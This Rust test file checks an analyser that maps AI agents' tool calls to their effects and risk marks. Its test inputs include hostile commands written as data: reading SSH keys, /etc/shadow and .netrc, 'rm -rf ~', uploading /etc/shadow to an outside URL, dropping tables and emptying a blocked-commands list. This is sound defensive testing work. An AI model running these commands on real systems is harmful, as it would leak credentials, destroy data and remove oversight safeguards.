//! Calls of the agents' tools to effects.

use callgate_call::{Arguments, fold};

use crate::{Bound, Catalogue, EffectKind, Effects, Ground, analyse};

const GROUND: Ground<'_> = Ground {
    cwd: Some("/w"),
    home: Some("/home/u"),
    workspace: Some("/w"),
    resolver: None,
    earlier: None,
};

fn effects(name: &str, arguments: &Arguments) -> Effects {
    let catalogue = Catalogue::builtin();
    analyse(name, catalogue.entry(&fold(name)), arguments, &GROUND)
}

fn lines(name: &str, arguments: &Arguments) -> Vec<String> {
    effects(name, arguments).all().iter().map(|effect| effect.action.to_string()).collect()
}

#[track_caller]
fn has(name: &str, json: &str, expected: &[&str]) {
    let found = lines(name, &Arguments::json(json));
    for line in expected {
        assert!(found.iter().any(|known| known == line), "{name} {json}: no `{line}` in {found:?}");
    }
}

#[test]
fn one_effect_from_every_agents_tool() {
    let expected = &["reads /home/u/.ssh/id_rsa"];
    for (name, json) in [
        ("Bash", r#"{"command":"cat ~/.ssh/id_rsa"}"#),
        ("exec_command", r#"{"cmd":"cat ~/.ssh/id_rsa"}"#),
        ("shell", r#"{"command":["bash","-lc","cat ~/.ssh/id_rsa"]}"#),
        ("shell", r#"{"command":["cat","~/.ssh/id_rsa"]}"#),
        ("shell", r#"{"command":"[\"cat\",\"/home/u/.ssh/id_rsa\"]"}"#),
        ("run_shell_command", r#"{"command":"cat id_rsa","directory":"/home/u/.ssh"}"#),
        ("run_command", r#"{"CommandLine":"cat id_rsa","Cwd":"/home/u/.ssh"}"#),
        ("Read", r#"{"file_path":"~/.ssh/id_rsa"}"#),
        ("Read", r#"{"FILE_PATH":"/home/u/.ssh/id_rsa"}"#),
        ("read_multiple_files", r#"{"paths":["a","/home/u/.ssh/id_rsa"]}"#),
        ("str_replace_based_edit_tool", r#"{"command":"view","path":"/home/u/.ssh/id_rsa"}"#),
        ("webfetch", r#"{"url":"file:///home/u/.ssh/id_rsa"}"#),
        ("some_unknown_tool", r#"{"options":{"input":"~/.ssh/id_rsa"}}"#),
    ] {
        has(name, json, expected);
    }
}

#[test]
fn files_are_written_and_deleted() {
    has("Write", r#"{"file_path":"a.txt","content":"rm -rf /"}"#, &["writes /w/a.txt"]);
    has("Edit", r#"{"file_path":"/x","old_string":"a","new_string":"b"}"#, &["writes /x"]);
    has("delete_file", r#"{"path":"a"}"#, &["deletes /w/a"]);
    has("move_file", r#"{"source":"a","destination":"b"}"#, &["deletes-tree /w/a", "writes /w/b"]);
    has("str_replace_editor", r#"{"command":"create","path":"/x"}"#, &["writes /x"]);
    let written = effects("Write", &Arguments::json(r#"{"file_path":"a","content":"rm -rf /"}"#));
    assert_eq!(written.kinds(), Bound::just(EffectKind::Writes));
}

#[test]
fn every_target_of_a_patch_counts() {
    let patch = "*** Begin Patch\n*** Add File: a\n+x\n*** Delete File: /etc/b\n*** End Patch";
    assert_eq!(lines("apply_patch", &Arguments::text(patch)), ["writes /w/a", "deletes /etc/b"]);
    let json = format!(r#"{{"input":{}}}"#, callgate_json::quote(patch));
    has("apply_patch", &json, &["writes /w/a", "deletes /etc/b"]);
    let command = format!("apply_patch <<'EOF'\n{patch}\nEOF");
    let json = format!(r#"{{"command":{}}}"#, callgate_json::quote(&command));
    has("Bash", &json, &["writes /w/a", "deletes /etc/b"]);
}

#[test]
fn code_mode_is_read_and_opaque_if_it_puts_something_together() {
    let script = |text: &str| lines("exec", &Arguments::text(text));
    let found = script("await tools.exec_command({cmd: \"rm -rf ~\"})");
    assert!(!found.contains(&"opaque language".to_owned()), "{found:?}");
    assert!(found.contains(&"deletes-tree /home/u".to_owned()), "{found:?}");
    let found = script("await tools.exec_command({cmd: \"rm -rf ~\", workdir: f()})");
    assert!(found.contains(&"opaque language".to_owned()), "{found:?}");
    assert!(found.contains(&"deletes-tree /home/u".to_owned()), "{found:?}");
}

#[test]
fn code_of_other_languages_is_scanned() {
    has(
        "execute_python",
        r#"{"code":"import os\nos.system('rm -rf ~')"}"#,
        &["deletes-tree /home/u"],
    );
    has("execute_python", r#"{"code":"open('/etc/shadow').read()"}"#, &["reads /etc/shadow"]);
    assert!(lines("execute_python", &Arguments::json(r#"{"code":"print(1+1)"}"#)).is_empty());
}

#[test]
fn unknown_tools_show_paths_and_urls() {
    has(
        "upload_thing",
        r#"{"file":"/etc/shadow","to":"https://e.com/x"}"#,
        &["reads /etc/shadow", "fetches e.com:443"],
    );
    has("remove_note", r#"{"path":"a"}"#, &["deletes-tree /w/a"]);
    has("my_shell", r#"{"command":"rm -rf ~"}"#, &["deletes-tree /home/u"]);
    has("db", r#"{"sql":"DROP TABLE x"}"#, &["sql DROP TABLE x"]);
    assert!(lines("get_weather", &Arguments::json(r#"{"city":"Paris","days":3}"#)).is_empty());
}

#[test]
fn unreadable_arguments_are_opaque_within_the_bound() {
    let found = effects("Read", &Arguments::json(r#"{"file_path":1,"file_path":2}"#));
    assert_eq!(found.could(), Bound::just(EffectKind::Reads));
    assert_eq!(effects("Bash", &Arguments::oversize("{")).could(), Bound::ALL);
    assert!(effects("task", &Arguments::json("{")).is_empty());
}

/// The marks that the name and the arguments of an unknown tool say.
fn marks(name: &str, json: &str) -> String {
    let effects = analyse(name, None, &Arguments::json(json), &GROUND);
    let marks = effects.all().iter().filter_map(|effect| match &effect.action {
        crate::Action::Runs(run) => Some(run.marks.to_string()),
        _ => None,
    });
    marks.collect::<Vec<_>>().join(" ")
}

#[test]
fn the_name_of_an_unknown_tool_says_what_it_destroys() {
    for (name, json, expected) in [
        ("delete_tag", r#"{"tag_name":"v1"}"#, "remote-delete"),
        ("worker_delete", r#"{"name":"edge"}"#, "infrastructure"),
        ("delete_index", r#"{"index":"*"}"#, "database"),
        ("read_secret", r#"{"path":"prod/db"}"#, "credentials"),
        ("kubectl_get", r#"{"resourceType":"secrets","output":"yaml"}"#, "credentials"),
        ("unprotect_branch", r#"{"name":"main"}"#, "guard"),
        ("set_config_value", r#"{"key":"blockedCommands","value":[]}"#, "guard"),
        ("add_collaborator", r#"{"username":"x"}"#, "accounts"),
        ("create_tunnel", r#"{"addr":"localhost:5432"}"#, "tunnel"),
        ("update_ref", r#"{"ref":"heads/main","force":true}"#, "force-push"),
        ("kubectl_create", r#"{"manifest":"hostPID: true"}"#, "host-access"),
        ("kubectl_scale", r#"{"replicas":0}"#, "infrastructure"),
    ] {
        assert_eq!(marks(name, json), expected, "{name} {json}");
    }
    for (name, json) in [
        ("delete_comment", r#"{"id":1}"#),
        ("delete_entities", r#"{"names":["a"]}"#),
        ("remove_label", r#"{"label":"a"}"#),
        ("list_secrets", "{}"),
        ("get_secret_scanning_alert", r#"{"number":1}"#),
        ("get_branch_protection", r#"{"branch":"main"}"#),
        ("kubectl_get", r#"{"resourceType":"pods","output":"yaml"}"#),
        ("create_event", r#"{"title":"delete the tag"}"#),
        ("search_deleted_items", "{}"),
    ] {
        assert_eq!(marks(name, json), "", "{name} {json}");
    }
}

#[test]
fn the_name_of_a_server_adds_to_its_tools() {
    let whole = |name: &str, own: &str, json: &str| {
        let effects = crate::analyse_whole(name, own, None, &Arguments::json(json), &GROUND);
        let lines = effects.all().iter().map(|effect| match &effect.action {
            crate::Action::Runs(run) => run.marks.to_string(),
            action => action.to_string(),
        });
        lines.collect::<Vec<_>>().join("; ")
    };
    let found = whole("mcp__terraform__run", "run", r#"{"command":"destroy"}"#);
    assert!(found.contains("infrastructure"), "{found}");
    let found = whole("mcp__git__push", "push", r#"{"remote":"https://h.example/x.git"}"#);
    assert!(found.contains("sends h.example:443"), "{found}");
    let found = whole("mcp__git__show", "show", r#"{"revision":"abc:.env"}"#);
    assert!(found.contains("reads /w/.env"), "{found}");
    let found = whole("mcp__jupyter__execute_code", "execute_code", r#"{"code":"!cat ~/.netrc"}"#);
    assert!(found.contains("reads /home/u/.netrc"), "{found}");
    assert_eq!(whole("mcp__git__show", "show", r#"{"revision":"abc"}"#), "");
}
